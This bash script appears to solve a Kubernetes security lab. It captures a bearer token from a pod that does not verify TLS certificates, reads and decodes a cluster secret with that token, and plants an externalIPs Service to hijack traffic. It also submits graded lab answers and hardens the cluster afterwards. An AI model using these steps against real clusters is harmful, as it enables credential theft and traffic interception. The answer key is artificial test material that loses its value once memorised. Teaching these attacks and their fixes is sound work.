#!/usr/bin/env bash
# A pod phones home: listen in on a careless client, use its token, then make client and token worth little to a thief.
set -euo pipefail

exploit() {
  local ip heard token vault
  heard=$(mktemp)
  ip=$(kubectl -n minilab-system get pods -l app=phone -o 'jsonpath={.items[0].status.podIP}')
  { sleep 5; } | minilab exec wire -- attacker fake-hub 198.51.100.2:6443 --from "$ip" --pod '{}' > "$heard" 2>&1 || true
  token=$(grep -o -m 1 'Bearer [^"]*' "$heard" | cut -d ' ' -f 2 || true)
  rm -f "$heard"
  # Once repaired, there is nothing to hear: what was earned stays earned.
  [ -n "$token" ] || return 0
  vault=$(minilab exec wire -- env ATTACKER_TOKEN="$token" attacker http --plain --find '"word"' \
    https://198.51.100.1:6443/api/v1/namespaces/default/secrets/vault |
    sed -n 's/.*"word":"\([^"]*\)".*/\1/p' | base64 -d)
  [ -z "$vault" ] || minilab lab answer vault "$vault"
  kubectl create -f - <<'YAML' || true
apiVersion: v1
kind: Service
metadata: {name: claim, namespace: default}
spec:
  selector: {app: shop}
  externalIPs: [203.0.113.7]
  ports: [{port: 80, targetPort: 8080}]
YAML
}

explain() {
  minilab lab answer endpoint 198.51.100.2:6443
  minilab lab answer namespace default
  minilab lab answer revoked "deleting the pod"
}

check_certificates() {
  local old
  if kubectl -n minilab-system get deployment phone -o yaml | grep -q -e --cacert; then return 0; fi
  old=$(kubectl -n minilab-system get pods -l app=phone -o name)
  kubectl -n minilab-system set env deployment/phone CHECK="--cacert /var/run/secrets/kubernetes.io/serviceaccount/ca.crt"
  kubectl -n minilab-system wait --for=delete $old --timeout=60s
  until kubectl -n minilab-system logs deploy/phone | grep -q "HTTP 200"; do sleep 0.5; done
}

harden() {
  minilab harden pod-to-apiserver
  check_certificates
}

by_hand() {
  kubectl delete clusterrolebinding minilab:phone-home --ignore-not-found
  kubectl -n minilab-system delete secret phone-home-token --ignore-not-found
  minilab exec control -- sh -c '
    cd /etc/kubernetes/manifests
    grep -q DenyServiceExternalIPs kube-apiserver.yaml || sed -i \
      -e "s/\(--enable-admission-plugins=NodeRestriction\)$/\1,DenyServiceExternalIPs/" \
      -e "/--service-account-issuer=/i\    - --service-account-extend-token-expiration=false" kube-apiserver.yaml'
  until minilab exec control -- ps -C kube-apiserver -o args= | grep -q DenyServiceExternalIPs &&
    kubectl get --raw /readyz > /dev/null; do sleep 0.5; done
  check_certificates
}

for part in "${@:-exploit explain harden}"; do for one in $part; do "$one"; done; done
